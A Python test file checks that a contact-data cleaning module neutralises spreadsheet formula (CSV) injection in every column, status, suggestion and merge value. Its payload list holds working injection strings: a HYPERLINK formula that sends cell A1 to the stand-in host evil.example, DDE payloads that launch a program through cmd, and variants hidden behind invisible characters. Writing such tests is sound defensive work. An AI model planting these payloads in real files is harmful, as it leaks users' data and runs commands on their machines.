"""No live formula leaves core.clean (issue 11): every value in a column with a role, every status, suggestion
and merge value is tested after all other cleaning, neutralised and flagged ``cell.formula``."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.clean import clean
from core.fields.cell import formula_trigger

ROLES = ["email", "phone", "full_name", "given_name", "family_name", "company", "street", "postal_code", "city",
         "country", "personal_id", "org_id", "birth_date", "updated_at"]

# The review's payloads (OWASP's CSV-injection list, tab and carriage return included) and the invisible
# characters that were stripped in front of a live "=".
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "=1+1",
    "\u200b=1+1",
    "\ufeff=HYPERLINK(\"x\")",
    "\x00=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0@SUM(1)",
    "\uff1dSUM(1)",
    "+46 70 123 45 67 =1+1",
    "=cmd|'/C calc'!A0",
]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_role_returns_a_live_formula_and_each_is_flagged(role, payload):
    result = clean((["X", "Namn"], [[payload, "Anna Berg"]]), {"roles": {"X": role, "Namn": "full_name"}, "dedupe": False})
    value = result.rows[0][0]
    assert formula_trigger(value) is None, (role, payload, value)
    assert value.startswith("'"), (role, payload, value)
    assert [i.code for i in result.issues if i.column == 0].count("cell.formula") == 1
    assert [c.after for c in result.changes if c.column == 0] == [value]
    assert "formula" in result.status[0]


@pytest.mark.parametrize("role", ["phone", "company", "street", "city"])
def test_a_real_phone_number_stays_a_usable_phone_number(role):
    result = clean((["X"], [["+46 70 123 45 67"], ["+46701234567"], ["-"], ["+4681234567 ext. 12"]]),
                   {"roles": {"X": role}, "dedupe": False})
    assert not [i for i in result.issues if i.code == "cell.formula"]
    assert all(not value.startswith("'") for (value,) in result.rows)


def test_a_status_built_from_a_formula_header_is_neutralised():
    result = clean((['=HYPERLINK("x")', "Namn"], [["not an e-mail", "Anna"]]),
                   {"roles": {'=HYPERLINK("x")': "email"}, "dedupe": False})
    assert result.status[0] and formula_trigger(result.status[0]) is None and result.status[0].startswith("'")


def test_suggestions_and_merge_values_are_neutralised():
    # A merge fill copies a value from another row; a suggestion offers one: neither may carry a formula.
    header = ["Namn", "E-post", "Anteckning", "Telefon"]
    rows = [["Anna Berg", "anna.berg@gmail.com", "", ""], ["Anna Berg", "anna.berg@gmail.com", "", "\u200b=1+1"]]
    result = clean((header, rows), {"roles": {"Anteckning": "company"}, "merge": True})
    values = [fill.value for c in result.duplicates for fill in c.merge.fills]
    values += [v for c in result.duplicates for conflict in c.merge.conflicts for v in conflict.values.values()]
    values += [i.suggestion for i in result.issues if i.suggestion]
    values += [v for row in result.rows for v, role in zip(row, result.roles) if role]
    assert all(formula_trigger(v) is None for v in values), values


def test_an_unknown_column_is_kept_but_flagged_with_the_neutral_form():
    result = clean((["Namn", "Anteckning"], [["Anna", "\u200b=1+1"]]), {"dedupe": False})
    assert result.rows[0][1] == "\u200b=1+1"  # the user's own column (an .xlsx may hold real formulas)
    (flag,) = [i for i in result.issues if i.code == "cell.formula"]
    assert flag.suggestion == "'\u200b=1+1" and formula_trigger(flag.suggestion) is None


_INVISIBLE = st.sampled_from(["", " ", "\u200b", "\ufeff", "\x00", "\t", "\r", "\u00a0", "\u2060", "\u00ad"])
_TRIGGER = st.sampled_from(["=", "+", "-", "@", "\uff1d", "\uff0b"])


@settings(max_examples=300, deadline=None)
@given(role=st.sampled_from(ROLES), before=st.lists(_INVISIBLE, max_size=3), trigger=_TRIGGER,
       rest=st.text(max_size=30))
def test_no_value_in_a_role_column_ever_starts_a_formula(role, before, trigger, rest):
    value = "".join(before) + trigger + rest
    result = clean((["X"], [[value]]), {"roles": {"X": role}, "dedupe": False})
    out = result.rows[0][0]
    assert formula_trigger(out) is None, (role, value, out)
    if out.startswith("'") and not value.lstrip().startswith("'"):
        assert any(i.code == "cell.formula" for i in result.issues), (role, value, out)


def test_checks_after_the_clean_add_no_formula_to_the_status_or_a_suggestion():
    from core.models import FieldIssue

    result = clean((['=HYPERLINK("x")'], [["anything"]]), {"dedupe": False, "roles": {'=HYPERLINK("x")': "company"}})
    later = FieldIssue(code="org_id.removed", severity="warning", message="Removed.", suggestion="=cmd|x")
    after = result.with_issues([(1, 0, later)])
    assert formula_trigger(after.status[0]) is None and after.status[0]
    assert [i.suggestion for i in after.issues if i.code == "org_id.removed"] == ["'=cmd|x"]
